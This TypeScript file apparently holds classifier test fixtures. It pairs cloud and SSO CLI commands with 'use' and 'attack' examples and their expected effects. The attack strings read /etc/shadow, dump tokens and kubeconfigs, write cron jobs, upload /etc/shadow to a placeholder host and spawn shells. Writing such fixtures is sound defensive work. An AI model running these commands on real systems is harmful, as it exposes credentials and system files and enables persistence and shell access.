import type { ExampleTable } from './example.ts'

export const cloudProviders: ExampleTable = {
  'azd env get-values': {
    attack: 'azd env get-values → read secret://',
  },
  bicep: {
    use: 'bicep build notes.txt → read notes.txt',
    attack: [
      'bicep build /etc/shadow → read /etc/shadow',
      'bicep build notes.txt --outfile=/etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
    ],
  },
  'bq extract': {
    use: 'bq extract shop.orders https://example.org/up → send https://example.org/up',
  },
  'bq load': {
    use: 'bq load shop.orders notes.txt demo → read notes.txt',
    attack: 'bq load shop.orders /etc/shadow demo → read /etc/shadow',
  },
  'bq query': {
    use: `bq query 'select 1' --flagfile=notes.txt → read notes.txt`,
    attack: [
      `bq query "select load_file('/etc/shadow')" → read /etc/shadow`,
      `bq query 'select 1' --flagfile=/etc/shadow → read /etc/shadow`,
    ],
  },
  cdk: {
    use: `cdk -a 'cat notes.txt' → read notes.txt`,
    attack: [`cdk -a 'cat /etc/shadow' → read /etc/shadow`, 'cdk -a /bin/sh → shell sh'],
  },
  'cloud-init': {
    use: 'cloud-init -f notes.txt → read notes.txt',
    attack: [
      'cloud-init -f /etc/shadow → read /etc/shadow',
      'cloud-init -c /etc/shadow → read /etc/shadow',
    ],
  },
  'cloud-localds': {
    use: 'cloud-localds out.txt notes.txt → read notes.txt; write out.txt',
    attack: [
      'cloud-localds /etc/cron.d/job notes.txt → read notes.txt; write /etc/cron.d/job',
      'cloud-localds out.txt /etc/shadow → read /etc/shadow; write out.txt',
    ],
  },
  'cloud-sql-proxy': {
    use: 'cloud-sql-proxy --port=8080 → listen 8080',
  },
  cloud_sql_proxy: {
    use: 'cloud_sql_proxy → listen 3306',
  },
  'copilot svc exec': {
    use: `copilot svc exec -c 'cat notes.txt' → read notes.txt`,
    attack: [
      `copilot svc exec -c 'cat /etc/shadow' → read /etc/shadow`,
      'copilot svc exec → shell copilot svc exec',
    ],
  },
  'copilot task': {
    use: `copilot task --command='cat notes.txt' → read notes.txt`,
    attack: `copilot task --command='cat /etc/shadow' → read /etc/shadow`,
  },
  'doctl apps': {
    use: 'doctl apps --spec=notes.txt → read notes.txt',
    attack: 'doctl apps --spec=/etc/shadow → read /etc/shadow',
  },
  'doctl auth token': {
    attack: 'doctl auth token → read secret://',
  },
  'doctl compute droplet': {
    use: 'doctl compute droplet --user-data-file=notes.txt → read notes.txt',
    attack: 'doctl compute droplet --user-data-file=/etc/shadow → read /etc/shadow',
  },
  'doctl compute ssh': {
    use: `doctl compute ssh web --ssh-command='cat notes.txt' → read notes.txt`,
    attack: [
      `doctl compute ssh web --ssh-command='cat /etc/shadow' → read /etc/shadow`,
      'doctl compute ssh web → shell doctl compute ssh',
    ],
  },
  'doctl kubernetes cluster kubeconfig show': {
    attack: 'doctl kubernetes cluster kubeconfig show → read secret://',
  },
  'eb printenv': {
    attack: 'eb printenv → read secret://',
  },
  'eb ssh': {
    use: `eb ssh -c 'cat notes.txt' → read notes.txt`,
    attack: [
      `eb ssh -c 'cat /etc/shadow' → read /etc/shadow`,
      'eb ssh -e /tmp/x → run /tmp/x; shell eb ssh',
    ],
  },
  ecs: {
    use: 'ecs notes.txt → nothing',
  },
  'ecs-cli': {
    use: 'ecs-cli up --file=app.conf → read app.conf',
    attack: 'ecs-cli up --file=/etc/shadow → read /etc/shadow',
  },
  'func start': {
    use: 'func start → listen 7071',
  },
  'govc guest.run': {
    use: 'govc guest.run cat notes.txt → read notes.txt',
    attack: 'govc guest.run cat /etc/shadow → read /etc/shadow',
  },
  'govc guest.upload': {
    use: 'govc guest.upload notes.txt https://example.org/up → read notes.txt; send https://example.org/up',
    attack:
      'govc guest.upload /etc/shadow https://example.org/up → read /etc/shadow; send https://example.org/up',
  },
  'hcloud server': {
    use: 'hcloud server --user-data-from-file=notes.txt → read notes.txt',
    attack: 'hcloud server --user-data-from-file=/etc/shadow → read /etc/shadow',
  },
  'hcloud server create': {
    use: 'hcloud server create --user-data-from-file=notes.txt → read notes.txt',
    attack: 'hcloud server create --user-data-from-file=/etc/shadow → read /etc/shadow',
  },
  'hcloud server ssh': {
    use: 'hcloud server ssh web cat notes.txt → read notes.txt',
    attack: [
      'hcloud server ssh web cat /etc/shadow → read /etc/shadow',
      'hcloud server ssh → shell hcloud server ssh',
    ],
  },
  'oci os object bulk-upload': {
    use: 'oci os object bulk-upload --src-dir=notes.txt → read notes.txt; send oci os object bulk-upload',
    attack:
      'oci os object bulk-upload --src-dir=/etc/shadow → read /etc/shadow; send oci os object bulk-upload',
  },
  'oci os object get': {
    use: 'oci os object get --file=out.txt → write out.txt',
    attack: 'oci os object get --file=/etc/cron.d/job → write /etc/cron.d/job',
  },
  'oci os object put': {
    use: 'oci os object put --file=notes.txt → read notes.txt; send oci os object put',
    attack: 'oci os object put --file=/etc/shadow → read /etc/shadow; send oci os object put',
  },
  'oci os object sync': {
    use: 'oci os object sync --src-dir=notes.txt → read notes.txt; send oci os object sync',
    attack: 'oci os object sync --src-dir=/etc/shadow → read /etc/shadow; send oci os object sync',
  },
  'openstack keypair': {
    use: 'openstack keypair --public-key=notes.txt → read notes.txt',
    attack: [
      'openstack keypair --public-key=/etc/shadow → read /etc/shadow',
      'openstack keypair --private-key=/etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  'openstack object': {
    use: 'openstack object create site notes.txt → read notes.txt; send openstack object',
    attack: 'openstack object create site /etc/shadow → read /etc/shadow; send openstack object',
  },
  'openstack server': {
    use: 'openstack server --user-data=notes.txt → read notes.txt',
    attack: 'openstack server --user-data=/etc/shadow → read /etc/shadow',
  },
  'openstack server create': {
    use: 'openstack server create --user-data=notes.txt → read notes.txt',
    attack: 'openstack server create --user-data=/etc/shadow → read /etc/shadow',
  },
  'openstack server ssh': {
    attack: 'openstack server ssh → session openstack server ssh',
  },
  'openstack token': {
    attack: 'openstack token → read secret://',
  },
  sam: {
    use: 'sam --config-file=app.conf → read app.conf',
    attack: 'sam --config-file=/etc/shadow → read /etc/shadow',
  },
  'sam build': {
    use: 'sam build -t app.conf → read app.conf',
    attack: [
      'sam build -t /etc/shadow → read /etc/shadow',
      'sam build --config-file=/etc/shadow → read /etc/shadow',
    ],
  },
  'sam deploy': {
    use: 'sam deploy -t app.conf → read app.conf',
    attack: [
      'sam deploy -t /etc/shadow → read /etc/shadow',
      'sam deploy --config-file=/etc/shadow → read /etc/shadow',
    ],
  },
  'sam local': {
    use: 'sam local -t app.conf → read app.conf',
    attack: [
      'sam local -t /etc/shadow → read /etc/shadow',
      'sam local -e /etc/shadow → read /etc/shadow',
    ],
  },
  'session-manager-plugin': {
    attack: 'session-manager-plugin → session session-manager-plugin',
  },
  upctl: {
    use: 'upctl notes.txt → nothing',
  },
  yc: {
    use: 'yc notes.txt → nothing',
  },
  assume: {
    use: `assume -e 'cat notes.txt' → read notes.txt`,
    attack: [`assume -e 'cat /etc/shadow' → read /etc/shadow`, 'assume -e /bin/sh → shell sh'],
  },
  'aws-okta exec': {
    use: 'aws-okta exec prod cat notes.txt → read notes.txt',
    attack: [
      'aws-okta exec prod cat /etc/shadow → read /etc/shadow',
      'aws-okta exec prod bash → shell bash',
    ],
  },
  'aws-sso eval': {
    attack: 'aws-sso eval → read secret://',
  },
  'aws-sso exec': {
    use: 'aws-sso exec cat notes.txt → read notes.txt',
    attack: ['aws-sso exec cat /etc/shadow → read /etc/shadow', 'aws-sso exec bash → shell bash'],
  },
  'saml2aws exec': {
    use: 'saml2aws exec cat notes.txt → read notes.txt',
    attack: ['saml2aws exec cat /etc/shadow → read /etc/shadow', 'saml2aws exec bash → shell bash'],
  },
  'saml2aws script': {
    attack: 'saml2aws script → read secret://',
  },
  'databricks fs cat': {
    use: 'databricks fs cat https://example.org/x → fetch https://example.org/x',
  },
  'databricks fs cp': {
    use: 'databricks fs cp notes.txt https://example.org/up → read notes.txt; send https://example.org/up',
    attack:
      'databricks fs cp /etc/shadow https://example.org/up → read /etc/shadow; send https://example.org/up',
  },
  'modal deploy': {
    use: 'modal deploy main.py → read main.py',
    attack: 'modal deploy /etc/shadow → read /etc/shadow',
  },
  'modal run': {
    use: 'modal run main.py → read main.py',
    attack: 'modal run /etc/shadow → read /etc/shadow',
  },
  'modal shell': {
    use: `modal shell --cmd='cat notes.txt' → read notes.txt`,
    attack: `modal shell --cmd='cat /etc/shadow' → read /etc/shadow`,
  },
}
